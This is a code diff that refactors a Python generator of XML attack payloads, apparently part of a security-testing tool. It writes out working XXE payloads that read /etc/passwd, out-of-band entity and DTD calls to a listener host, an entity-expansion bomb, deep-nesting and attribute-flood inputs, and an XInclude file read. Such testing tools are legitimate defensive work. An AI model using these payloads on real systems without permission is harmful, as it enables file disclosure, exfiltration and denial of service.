@@ -58,40 +58,51 @@ def _chinese(right: bytes) -> str:
     )
 
 
-def _xml(right: bytes, headers: Headers, listener: str) -> Iterator[Attack]:
+WHERE = re.compile(rb">[^<>]*[^<>\s][^<>]{2,}<")
+
+
+def _declared(right: bytes, doctype: str, call: bytes = b">&e;<") -> bytes:
+    """The message with a document type declaration before it and `call` in place of its first text."""
     head, _, rest = right.partition(b"?>")
-    where = re.compile(rb">[^<>]*[^<>\s][^<>]{2,}<")
+    return head + b"?>" + doctype.encode() + WHERE.sub(lambda _: call, rest, count=1)
 
-    def declared(doctype: str, call: bytes = b">&e;<") -> bytes:
-        return head + b"?>" + doctype.encode() + where.sub(lambda _: call, rest, count=1)
 
+def _declarations(right: bytes, headers: Headers, listener: str) -> Iterator[Attack]:
     for name, target in (("file", "file:///etc/passwd"), ("network", listener)):
         yield Attack(
-            f"external entity, {name}", declared(f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'), headers
+            f"external entity, {name}",
+            _declared(right, f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'),
+            headers,
         )
-    yield Attack("external subset", declared(f'<!DOCTYPE x SYSTEM "{listener}/x.dtd">', b">x<"), headers)
+    yield Attack(
+        "external subset", _declared(right, f'<!DOCTYPE x SYSTEM "{listener}/x.dtd">', b">x<"), headers
+    )
     yield Attack(
         "parameter entity",
-        declared(f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{listener}/p"> %p;]>', b">x<"),
+        _declared(right, f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{listener}/p"> %p;]>', b">x<"),
         headers,
     )
     bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
     yield Attack(
-        "entity bomb", declared(f'<!DOCTYPE x [<!ENTITY e0 "{"a" * 50}">{bomb}]>', b">&e9;<"), headers
+        "entity bomb", _declared(right, f'<!DOCTYPE x [<!ENTITY e0 "{"a" * 50}">{bomb}]>', b">&e9;<"), headers
     )
     yield Attack(
         "one long entity",
-        declared(f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>', b">" + b"&e;" * 2000 + b"<"),
+        _declared(right, f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>', b">" + b"&e;" * 2000 + b"<"),
         headers,
     )
-    yield Attack("undeclared entity", declared("", b">&nobody;<"), headers)
-    yield Attack("document type in lower case", declared("<!doctype html>", b">x<"), headers)
+
+
+def _xml(right: bytes, headers: Headers, listener: str) -> Iterator[Attack]:
+    yield from _declarations(right, headers, listener)
+    yield Attack("undeclared entity", _declared(right, "", b">&nobody;<"), headers)
+    yield Attack("document type in lower case", _declared(right, "<!doctype html>", b">x<"), headers)
     deep = b"<a>" * 50_000 + b"</a>" * 50_000
-    yield Attack("deep nesting", where.sub(lambda _: b">" + deep + b"<", right, count=1), headers)
+    yield Attack("deep nesting", WHERE.sub(lambda _: b">" + deep + b"<", right, count=1), headers)
     many = b" ".join(b'a%d="1"' % n for n in range(50_000))
-    yield Attack("many attributes", where.sub(lambda _: b"><a " + many + b"/><", right, count=1), headers)
-    yield Attack("character reference to NUL", where.sub(b">&#0;<", right, count=1), headers)
-    yield Attack("lone surrogate reference", where.sub(b">&#xD800;<", right, count=1), headers)
+    yield Attack("many attributes", WHERE.sub(lambda _: b"><a " + many + b"/><", right, count=1), headers)
+    yield Attack("character reference to NUL", WHERE.sub(b">&#0;<", right, count=1), headers)
+    yield Attack("lone surrogate reference", WHERE.sub(b">&#xD800;<", right, count=1), headers)
     yield Attack("another root", b'<?xml version="1.0"?><html><body/></html>', headers)
     yield Attack(
         "another envelope namespace",
@@ -117,7 +128,7 @@ def _xml(right: bytes, headers: Headers, listener: str) -> Iterator[Attack]:
     )
     yield Attack(
         "xinclude",
-        where.sub(
+        WHERE.sub(
             b'><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><',
             right,
             count=1,
